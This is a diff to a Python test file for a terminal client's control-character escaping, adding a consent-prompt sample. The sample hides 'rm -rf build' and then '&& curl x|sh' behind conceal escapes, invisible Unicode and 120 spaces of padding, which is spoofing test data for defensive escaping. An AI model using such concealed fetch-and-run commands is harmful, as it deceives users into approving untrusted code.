@@ -6,7 +6,7 @@ import json
 from typing import Any
 
 from server.terminal.client import format_activity, format_compaction, stop_note
-from tooling.display import escape_control
+from tooling.display import escape_consent, escape_control
 
 STAMP = r"\d\d:\d\d:\d\d"
 # Shown raw on a terminal as "git fetch origin #": ESC [8m conceals the second line.
@@ -105,7 +105,20 @@ FORMAT_CASES: list[dict[str, Any]] = [
 
 # Every character up to U+3000 but NUL (Emacs's JSON parser refuses it), for the clients'
 # own copies of tooling.display's rules.
-ESCAPE_SAMPLE = "".join(chr(code) for code in range(1, 0x3000)) + "\ufeff" + SPOOF
+ESCAPE_SAMPLE = (
+    "".join(chr(code) for code in range(1, 0x3000))
+    + "\u3164\ufeff\uffa0\ufff9\ufffb\U000110bd\U0001d173\U000e0001\U000e0041\U000e007f"
+    + "\ue000\U0001f600\ufe0f"  # private use, an emoji, a variation selector: kept
+    + SPOOF
+)
+# What the user consents to (issue 33): the sample above, private-use characters and
+# variation selectors, and blank runs a client shows as ␣×N.
+CONSENT_SAMPLE = (
+    "\x1b[8m\r\n\u202e\u2028\u3164\u115f\u00ad\u180e\u206a\U000e0041\u200b"
+    + "rm -rf build"
+    + " " * 120
+    + "&& curl x|sh \t\t\u3000\u00a0 a   b \ue000\U000f0000\U000e0100"
+)
 
 
 def expected_escapes() -> dict[str, str]:
@@ -113,6 +126,8 @@ def expected_escapes() -> dict[str, str]:
     return {
         "escaped": escape_control(ESCAPE_SAMPLE),
         "kept": escape_control(ESCAPE_SAMPLE, keep_newlines=True),
+        "consent": escape_consent(CONSENT_SAMPLE),
+        "consent_kept": escape_consent(CONSENT_SAMPLE, keep_newlines=True),
     }
 
 
